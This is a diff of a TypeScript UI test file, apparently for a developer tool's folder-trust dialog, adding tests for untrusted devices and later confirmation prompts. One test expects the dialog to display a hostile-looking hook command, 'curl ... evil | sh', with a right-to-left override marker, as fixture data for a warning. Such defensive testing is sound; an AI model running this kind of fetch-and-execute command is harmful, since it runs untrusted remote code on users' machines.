@@ -15,13 +15,14 @@ const GONE = { kind: "server", name: "db", detail: "npx db-server", source: "/pr
 
 let root: HTMLElement;
 let world: World;
+let app: App;
 
 beforeEach(async () => {
   HTMLDialogElement.prototype.showModal ??= function showModal(this: HTMLDialogElement): void {
     this.open = true;
   };
   world = new World();
-  const app = new App({ around: world, keep: new Memory(), router: new Router(window), preferences: signal(defaults(false)), frame: (call) => call(), uuid: () => "c-1" });
+  app = new App({ around: world, keep: new Memory(), router: new Router(window), preferences: signal(defaults(false)), frame: (call) => call(), uuid: () => "c-1" });
   root = document.createElement("div");
   document.body.append(root);
   app.connection.start();
@@ -111,6 +112,34 @@ describe("a folder that provides something", () => {
     await press("Cancel");
     expect(root.querySelector("dialog")).toBeNull();
     expect(world.socket.ofType("start")).toEqual([]);
+  });
+
+  it("is shown to a device that can't trust it, with the way to a decision", async () => {
+    await greet({ device: hello("s-1", "operate").device });
+    await press("Start");
+    await answer("get_trust", report("untrusted", [HOOK]));
+    expect(root.querySelector("dialog")?.textContent).toContain("curl U+202Eevil | sh");
+    expect(root.querySelector("dialog")?.textContent).toContain("needs full access");
+    expect(root.querySelector("dialog")?.textContent).toContain("aqueduct trust /proj/api");
+    expect(button("Trust and start")).toBeUndefined();
+    await press("Start without it");
+    expect(world.socket.ofType("trust_folder")).toEqual([]);
+    expect(world.socket.ofType("start")).toHaveLength(1);
+  });
+
+  it("can be trusted for a session that needs a confirmation, which is asked for after it", async () => {
+    await greet();
+    await press("Start");
+    await answer("get_trust", report("untrusted", [HOOK]));
+    await press("Trust and start");
+    await answer("trust_folder", { type: "ok" });
+    await answer("start", { type: "error", code: "confirmation_required", message: "It never asks.", confirm: "v-1" });
+    expect(root.querySelector("dialog")).toBeNull();
+    const asked = app.confirming.peek();
+    expect(asked?.consequence).toBe("It never asks.");
+    await act(async () => asked?.answer(true));
+    expect(world.socket.ofType("start").at(-1)).toMatchObject({ projectPath: "/proj/api", confirm: "v-1" });
+    expect(world.socket.ofType("trust_folder")).toHaveLength(1);
   });
 
   it("shows the difference when it changed, in words", async () => {
